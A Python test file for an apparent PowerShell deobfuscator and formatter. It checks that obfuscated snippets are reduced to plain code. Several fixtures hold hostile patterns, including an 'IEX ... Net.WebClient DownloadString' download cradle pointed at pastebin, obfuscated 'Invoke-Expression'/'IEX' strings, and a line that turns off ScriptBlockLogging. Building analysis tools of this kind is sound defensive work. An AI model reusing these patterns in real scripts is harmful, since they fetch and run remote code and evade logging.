"""PowerShell: indented by blocks, constants worked out as PowerShell does, strings and comments left alone."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowsleuth.errors import OptionError
from flowsleuth.extract.powershell import format_powershell, plain_powershell
from flowsleuth.extract.powershell.tokens import tokens


@pytest.mark.parametrize(
    ("code", "plain"),
    [
        ("'a'+'b'", "'ab'"),
        ("iex ('a'+\"b\")", "iex 'ab'"),
        ("$x='a'+'b'+'c';$y", "$x='abc';$y"),
        ("$x+'a'+'b'", "$x+'a'+'b'"),  # 5+'3'+'4' is 12
        ("$x='a'+$y+'b'", "$x='a'+$y+'b'"),
        ("Write-Host 'a'+'b'", "Write-Host 'a'+'b'"),  # not an expression
        ("$x=1+2", "$x=3"),
        ("$x=1+'2'", "$x=1+'2'"),
        ("$x='1'+2", "$x='12'"),
        ("('it''s'+\"`\"`$x\")", "'it''s\"$x'"),
        ("(\"a$b\"+'c')", "(\"a$b\"+'c')"),
        ("$x='{2}{0}{1}' -f 'voke-Exp','ression','In'", "$x='Invoke-Expression'"),
        ("$x=\"{0}{1}\"-f'x'", "$x=\"{0}{1}\"-f'x'"),
        ("$x='{0:X}' -f 255", "$x='{0:X}' -f 255"),
        ("$x='{{{0}}}' -f 1", "$x='{{{0}}}' -f 1".replace("'{{{0}}}' -f 1", "'{1}'")),
        ("$x='a'+'{0}' -f 'b','c'", "$x='ab'"),
        ("([char]73+[char]0x45+[char]88)", "'IEX'"),
        ("-join([char[]](73,69,88))", "'IEX'"),
        ("-join ('I','E','X')", "'IEX'"),
        ("('I','E','X') -join ''", "'IEX'"),
        ("[string]::Join('',('a','b'))", "'ab'"),
        ("[string]::Join('-','a','b')", "'a-b'"),
        ("('XEI'[-1..-3] -join '')", "'IEX'"),
        ("('abc'[0,2] -join '')", "'ac'"),
        ("$x='iAxAe'.Replace('A','')", "$x='ixe'"),
        ("$x='iAxAe' -replace 'a',''", "$x='ixe'"),
        ("$x='iAxAe' -creplace 'a','b'", "$x='iAxAe'"),
        ("$x='a.b' -replace '.','c'", "$x='a.b' -replace '.','c'"),
        ("('a,b' -split ',') -join '+'", "'a+b'"),
        ("('a'+'b').ToUpper()", "'AB'"),
        ("'abcdef'.Substring(1,2)", "'bc'"),
        ("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA'))", "'iex'"),
        ("[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aWV4'))", "'iex'"),
        ("[Convert]::FromBase64String('aWV4')", "[Convert]::FromBase64String('aWV4')"),
        ("&('ie'+'x') 'a'", "iex 'a'"),
        ("& 'C:\\a b.exe'", "& 'C:\\a b.exe'"),
        (". ('ie'+'x')", "iex"),
        ("$w.('Down'+'loadString')('http://x')", "$w.DownloadString('http://x')"),
        ("$w.DownloadString('htt'+'p://x')", "$w.DownloadString('http://x')"),
        ("f('a'+'b',$c+'d')", "f('a'+'b',$c+'d')"),
        ("$x.f('a'+'b',$c+'d')", "$x.f('ab',$c+'d')"),
        ("i`E`x (N`EW-Object Net.WebClient)", "iEx (NEW-Object Net.WebClient)"),
        ("Write`-Host a`nb", "Write-Host a`nb"),
        ("# 'a'+'b'", "# 'a'+'b'"),
        ("$x=@('a','b')", "$x=@('a','b')"),
        ("${a}='x'+'y'", "${a}='xy'"),
        ("if(('a'+'b') -eq $c){'d'+'e'}", "if('ab' -eq $c){'de'}"),
        ("IEX (New-Object Net.WebClient).DownloadString(('ht'+(\"{2}{0}{1}\"-f ':/','/paste','tp')+'bin'));",
         "IEX (New-Object Net.WebClient).DownloadString('http://pastebin');"),
        ("[char]1114112", "[char]1114112"),
        ("$g['ScriptB'+'lockLogging']['Enable'+$x]=0", "$g['ScriptBlockLogging']['Enable'+$x]=0"),
        ("'abc'[7]", "'abc'[7]"),
        ("'a'..'b'", "'a'..'b'"),
    ],
)  # fmt: skip
def test_constants_are_worked_out_as_powershell_does(code: str, plain: str) -> None:
    assert plain_powershell(code).text == plain


def test_what_was_done_is_said() -> None:
    found = plain_powershell("&('{1}{0}'-f'ex','i') (('a'+'b').Replace('a','c'))+[char]65; w`R`ite 1")
    assert found.steps == {"formats": 1, "concatenations": 1, "methods": 1, "calls": 1, "backticks": 2}
    assert plain_powershell("Get-Process | Sort-Object CPU").steps == {}


@pytest.mark.parametrize(
    ("code", "laid_out"),
    [
        ("if($a){b}else{c}", "if($a) {\n    b\n} else {\n    c\n}"),
        ("for($i=0;$i -lt 3;$i++){$i}", "for($i=0;$i -lt 3;$i++) {\n    $i\n}"),
        ("a;b;c", "a\nb\nc"),
        ("gps|%{$_.Name}|sort", "gps|% {\n    $_.Name\n} |sort"),
        ("try{a}catch{b}finally{c}", "try {\n    a\n} catch {\n    b\n} finally {\n    c\n}"),
        ("do{a}while($b)", "do {\n    a\n} while($b)"),
        ("$h=@{a=1;b=2};c", "$h=@{\n    a=1\n    b=2\n}\nc"),
        ("f({a;b})", "f({\n    a\n    b\n})"),
        ("'a;{b}';\"c;{d} $(e; '}')\"", "'a;{b}'\n\"c;{d} $(e; '}')\""),
        ("a # b;{c\nd", "a # b;{c\nd"),
        ("a <# ;{ #> b;c", "a <# ;{ #> b\nc"),
        ("${a;b}=1;c", "${a;b}=1\nc"),
        ("function f{}", "function f {}"),
        ("$x=@'\na;{b\n'@;c", "$x=@'\na;{b\n'@\nc"),
        ("}}a", "}\n}\na"),
        ("{{{", "{\n    {\n        {"),
        ("``;0", "``\n0"),
        ("` }", "` \n}"),
        ("a`  b", "a`  b"),
        ("a # b  \nc", "a # b\nc"),
        ("", ""),
    ],
)
def test_scripts_are_laid_out(code: str, laid_out: str) -> None:
    assert format_powershell(code) == laid_out
    assert format_powershell(laid_out) == laid_out


def test_indent_and_plain() -> None:
    assert format_powershell("if(1){'a'+'b'}", indent=2, plain=True) == "if(1) {\n  'ab'\n}"
    with pytest.raises(OptionError, match="0 to 16"):
        format_powershell("a", indent=17)


SCRIPTS = st.text(alphabet="ab'\"`$(){}[]<>#@;|+-.,=& \n0f:", max_size=60)


@given(SCRIPTS)
def test_tokens_put_together_are_the_script(code: str) -> None:
    assert "".join(token.text for token in tokens(code)) == code


@given(SCRIPTS)
def test_any_text_is_laid_out_and_nothing_but_blanks_and_semicolons_is_lost(code: str) -> None:
    def bare(text: str) -> str:
        joined = "".join(token.text for token in tokens(text) if token.kind != "space")  # "`\n" is a blank, "``\n" not
        return "".join(character for character in joined if character not in " \n;\t")

    assert bare(format_powershell(code)) == bare(code)
    assert isinstance(plain_powershell(code).text, str)


@given(st.lists(st.text(alphabet="abc'x{}", max_size=5), min_size=2, max_size=6))
def test_a_text_cut_to_pieces_is_put_together(pieces: list[str]) -> None:
    quoted = ["'" + piece.replace("'", "''") + "'" for piece in pieces]
    whole = "'" + "".join(pieces).replace("'", "''") + "'"
    assert plain_powershell(f"$x={'+'.join(quoted)}").text == f"$x={whole}"
    assert plain_powershell(f"iex ({'+'.join(quoted)})").text == f"iex {whole}"
    assert plain_powershell(f"$x=-join({','.join(quoted)})").text == f"$x={whole}"


HOSTILE = (
    "(" * 100_000, "{" * 100_000, "'" * 100_001, '"' * 100_001, '"$(' * 30_000, "'a'+" * 50_000, "f(" * 50_000,
    "`" * 100_000, "<#" * 50_000, "[char]" * 30_000, "@'\n" * 20_000, "('a')" * 30_000, "'a'," * 40_000,
    "'ab'.Replace('b','" + "b" * 50_000 + "')", "$x=" + "'aaaaaaaaaaaaaaaaaaaa'+" * 20_000 + "'a'", "&'" * 50_000,
    "1..999999999", "-" * 100_000, "{" * 40_000 + "}" * 40_000,
)  # fmt: skip


@pytest.mark.parametrize("code", HOSTILE, ids=lambda code: code[:8])
def test_hostile_text_is_neither_slow_nor_large(code: str) -> None:
    began = time.process_time()
    assert len(format_powershell(code, plain=True)) < 200 * len(code) + 1_000
    assert time.process_time() - began < 10
